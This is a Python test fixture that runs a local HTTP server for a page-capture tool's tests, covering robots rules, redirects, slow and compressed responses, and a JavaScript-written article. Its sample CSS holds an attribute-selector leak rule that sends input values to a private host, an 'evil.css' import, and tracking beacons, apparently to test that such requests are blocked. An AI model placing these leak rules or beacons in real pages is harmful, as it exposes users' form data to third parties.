"""A local HTTP server for the capture tests: robots.txt rules, pages, redirects, slow, huge and
non-HTML answers, a 429 that asks to wait, a page whose article only JavaScript writes (from a JSON request,
and which then asks for an image at a private address), and a page with its stylesheets, an import, a font
and images (and CSS that reaches elsewhere: an import, an attribute selector, an image-set)."""

from __future__ import annotations

import gzip
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from served import served

ROBOTS = (b"User-agent: *\nDisallow: /private\nAllow: /private/open\nCrawl-delay: 0.2\n\n"
          b"User-agent: grumpy\nDisallow: /\n")


JS_SHELL = (b"<!doctype html><html><head><meta charset='utf-8'><title>Timetable</title></head><body>"
            b"<nav>Home | News</nav><div id='app'>Loading...</div><script>"
            b"fetch('/api/article').then((r) => r.json()).then((a) => {"
            b"document.getElementById('app').innerHTML = '<article><h1>' + a.title + '</h1>' +"
            b" a.paragraphs.map((p) => '<p>' + p + '</p>').join('') + '</article>';"
            b" new Image().src = 'http://10.0.0.7:8080/pixel.gif';});</script></body></html>")
ARTICLE_JSON = (b'{"title": "Winter timetable", "paragraphs": ['
                b'"The winter timetable of the harbour ferries starts on the first of November.",'
                b'"Boats leave every forty minutes from the north pier, and every hour on Sundays.",'
                b'"Tickets bought before the change stay valid until the end of the year."]}')
STYLED = (b"<!doctype html><html><head><meta charset='utf-8'><title>Styled</title>"
          b"<link rel='stylesheet' href='/css/site.css'><link rel='icon' href='/favicon.ico'>"
          b"<style>body{background:url(/img/back.png)} .tracked{background:url(http://10.0.0.7:8080/track.gif)}</style>"
          b"</head><body><nav class='menu'>Home | News</nav><article><h1>Styled ferry news</h1>"
          b"<p class='lead' style='background-image:url(/img/dot.png)'>The ferry runs again.</p>"
          b"<img src='/img/photo.png' alt='the ferry'><input value='abc'></article></body></html>")
SITE_CSS = (b"@import url('/css/extra.css');\n@import url(http://10.0.0.7:8080/evil.css);\n"
            b"@font-face{font-family:Harbour;src:url(/fonts/harbour.woff2) format('woff2')}\n"
            b"nav.menu{float:right;width:30%} article{font-family:Harbour} .lead{color:rgb(200, 0, 0)}\n"
            b"input[value^=a]{background:url(//10.0.0.7:8080/leak?a)}\n"
            b".hero{background-image:image-set('/img/back.png' 1x, 'http://10.0.0.7:8080/x2.png' 2x)}\n")
EXTRA_CSS = b"h1{text-transform:uppercase}\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2a0c1a90000000049454e44ae426082")


def page(title: str, body: str) -> bytes:
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>{title}</title></head><body>"
            f"<nav>Home | News</nav><article><h1>{title}</h1><p>{body}</p></article></body></html>").encode()


class Handler(BaseHTTPRequestHandler):
    counts: dict[str, int] = {}
    log: list[tuple[str, float]] = []

    def log_message(self, *args) -> None:  # quiet
        pass

    def send(self, status: int, body: bytes, kind: str = "text/html; charset=utf-8", **headers: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # http.server's name
        path = self.path
        Handler.counts[path] = Handler.counts.get(path, 0) + 1
        Handler.log.append((path, time.monotonic()))
        if path == "/robots.txt":
            self.send(200, ROBOTS, "text/plain")
        elif path in ("/page", "/private/open", "/other"):
            self.send(200, page("Harbour ferry returns", f"The ferry at {path} runs again from June."))
        elif path == "/gzipped":
            self.send(200, gzip.compress(page("Packed", "A page sent compressed.")), Content_Encoding="gzip")
        elif path == "/private/secret":
            self.send(200, page("Secret", "Never fetched."))
        elif path == "/redirect":
            self.send(301, b"", Location="/page")
        elif path == "/loop":
            self.send(302, b"", Location="/loop")
        elif path.startswith("/away"):
            self.send(302, b"", Location=path.split("?to=", 1)[1])
        elif path == "/slow":
            time.sleep(3)
            self.send(200, page("Slow", "Too late."))
        elif path == "/huge":
            self.send(200, b"<html><body><p>" + b"x" * 300_000 + b"</p></body></html>")
        elif path == "/data.json":
            self.send(200, b'{"a": 1}', "application/json")
        elif path == "/busy":
            if Handler.counts[path] == 1:
                self.send(429, b"slow down", "text/plain", Retry_After="1")
            else:
                self.send(200, page("Patience", "Served on the second try."))
        elif path == "/js-article":
            self.send(200, JS_SHELL)
        elif path == "/api/article":
            self.send(200, ARTICLE_JSON, "application/json")
        elif path == "/styled":
            self.send(200, STYLED)
        elif path == "/css/site.css":
            self.send(200, SITE_CSS, "text/css")
        elif path == "/css/extra.css":
            self.send(200, EXTRA_CSS, "text/css; charset=utf-8")
        elif path == "/fonts/harbour.woff2":
            self.send(200, b"wOF2 not a real font", "font/woff2")
        elif path.startswith("/img/"):
            self.send(200, PNG, "image/png")
        elif path == "/missing":
            self.send(404, b"<html><body>Not here</body></html>")
        else:
            self.send(404, b"no")


@contextmanager
def capture_server() -> Iterator[str]:
    """The server's base URL (http://127.0.0.1:PORT), its counters reset."""
    Handler.counts = {}
    Handler.log = []
    with served(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        yield f"http://127.0.0.1:{server.server_address[1]}"
